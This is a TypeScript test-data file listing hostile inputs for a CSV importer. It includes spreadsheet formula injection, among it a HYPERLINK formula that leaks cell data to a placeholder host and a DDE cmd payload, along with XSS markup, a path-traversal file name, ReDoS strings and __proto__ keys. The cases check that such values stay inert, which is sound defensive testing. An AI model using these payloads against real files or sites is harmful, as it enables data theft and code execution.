/** The bad-input catalogue, group F: Injection and hostile content (test data, imported only by tests). */
import type { CatalogueCase } from './cases';
import { utf8, HEADER, row, tpl, HOSTILE } from './build';

const OWASP1 = '=1+2";=1+2';
const OWASP2 = `=1+2'" ;,=1+2`;
const q = (s: string) => `"${s.replaceAll('"', '""')}"`;

export const F: CatalogueCase[] = [
	{
		kind: 'file',
		id: 'F1',
		description:
			'formula cells `=HYPERLINK(…)`, `+1`, `-1+1`, `@SUM(A1)`, `\\t=1`, `\\r=1`, `\\n=1`',
		catalogue: 'OK as text (escaped on export)',
		build: () =>
			utf8(
				tpl([
					row({ note: q('=HYPERLINK("http://x?"&A1)') }),
					row({ note: '+1', label: '-1+1', partner: 'UZB' }),
					row({ note: '@SUM(A1)', label: q('\t=1'), partner: 'KGZ' }),
					row({ note: q('\r=1'), label: q('\n=1'), partner: 'TJK' })
				])
			),
		expected: 'parse',
		rows: [
			{ note: '=HYPERLINK("http://x?"&A1)' },
			{ note: '+1', sectorLabel: '-1+1', partner: 'UZB' },
			{ note: '@SUM(A1)', sectorLabel: '=1', partner: 'KGZ' },
			{ note: '=1', sectorLabel: '=1', partner: 'TJK' }
		]
	},
	{
		kind: 'file',
		id: 'F2',
		description: '`=1+1\\nx` (formula plus newline)',
		catalogue: 'OK as text; export escaped',
		build: () => utf8(tpl([row({ note: q('=1+1\nx') })])),
		expected: 'parse',
		rows: [{ note: '=1+1\nx' }]
	},
	{
		kind: 'file',
		id: 'F3',
		description: `OWASP examples \`${OWASP1}\` and \`${OWASP2}\``,
		catalogue: 'OK as text; export exactly as OWASP says',
		build: () => utf8(tpl([row({ note: q(OWASP1), label: q(OWASP2) })])),
		expected: 'parse',
		rows: [{ note: OWASP1, sectorLabel: OWASP2 }]
	},
	{
		kind: 'file',
		id: 'F4',
		description: 'markup as sector label, source and note',
		catalogue: 'OK: inert everywhere',
		build: () =>
			utf8(
				tpl([
					row({
						label: HOSTILE,
						source: '<svg onload=alert(1)>',
						note: q('"><script>alert(1)</script>')
					})
				])
			),
		expected: 'parse',
		rows: [
			{ sectorLabel: HOSTILE, source: '<svg onload=alert(1)>', note: '"><script>alert(1)</script>' }
		]
	},
	{
		kind: 'file',
		id: 'F5',
		description: '`javascript:alert(1)` and `data:text/html,…` cells',
		catalogue: 'OK as text; never used as href',
		build: () =>
			utf8(tpl([row({ note: 'javascript:alert(1)', source: q('data:text/html,<b>x</b>') })])),
		expected: 'parse',
		rows: [{ note: 'javascript:alert(1)', source: 'data:text/html,<b>x</b>' }]
	},
	{
		kind: 'file',
		id: 'F6',
		description: 'hostile file names: markup, `../../x.csv`, 300 characters',
		catalogue: 'OK: escaped in the UI; export name sanitised',
		fileName: `"><img src=x onerror=alert(1)>../../${'n'.repeat(300)}.csv`,
		build: () => utf8(tpl([row()])),
		expected: 'parse',
		rows: [{ dataset: `"><img src=x onerror=alert(1)>../../${'n'.repeat(300)}.csv` }]
	},
	{
		kind: 'file',
		id: 'F7',
		description: 'ReDoS-shaped value cell: 100k digits + `x`',
		catalogue: 'each cell under 50 ms',
		build: () => utf8(tpl([row({ value: `${'1'.repeat(100_000)}x` }), row({ partner: 'UZB' })])),
		expected: 'partial',
		rows: [{ partner: 'UZB' }],
		rejections: [{ line: 2, code: 'invalid-number', column: 7 }],
		budgetMs: 50
	},
	{
		kind: 'file',
		id: 'F7b',
		description: 'ReDoS-shaped cells: 100k spaces inside a value, a partner and a period',
		catalogue: 'each cell under 50 ms',
		build: () =>
			utf8(
				tpl([
					row({ value: `1${' '.repeat(100_000)}x` }),
					row({ partner: `KAZ${' '.repeat(100_000)}x` }),
					row({ period: `2023${' '.repeat(100_000)}x` }),
					row({ partner: 'UZB' })
				])
			),
		expected: 'partial',
		rows: [{ partner: 'UZB' }],
		rejections: [
			{ line: 2, code: 'invalid-number', column: 7 },
			{ line: 3, code: 'unknown-country', column: 2 },
			{ line: 4, code: 'invalid-period', column: 1 }
		],
		budgetMs: 150
	},
	{
		kind: 'file',
		id: 'F7c',
		description: 'ReDoS-shaped value cell: `1.1.1…` (100k characters)',
		catalogue: 'each cell under 50 ms',
		build: () => utf8(tpl([row({ value: `${'1.'.repeat(50_000)}1` }), row({ partner: 'UZB' })])),
		expected: 'partial',
		rows: [{ partner: 'UZB' }],
		rejections: [{ line: 2, code: 'invalid-number', column: 7 }],
		budgetMs: 50
	},
	{
		kind: 'file',
		id: 'F8',
		description: 'sector values `__proto__`, `constructor`, `toString`',
		catalogue: 'OK: all groups present',
		build: () =>
			utf8(
				tpl([
					row({ sector: '__proto__', label: '__proto__' }),
					row({ sector: 'constructor', partner: 'UZB' }),
					row({ sector: 'toString', partner: 'TJK' })
				])
			),
		expected: 'parse',
		rows: [
			{ sector: '__proto__', sectorLabel: '__proto__' },
			{ sector: 'constructor' },
			{ sector: 'toString' }
		]
	},
	{
		kind: 'file',
		id: 'F9',
		description: "formula-looking header `=cmd|' /C calc'!A0`",
		catalogue: 'OK as text',
		build: () => utf8(`${HEADER},=cmd|' /C calc'!A0\n${row()},x\n`),
		expected: 'parse',
		verify: (r) => (r.columns[11]?.header === "=cmd|' /C calc'!A0" ? [] : ['header'])
	}
];
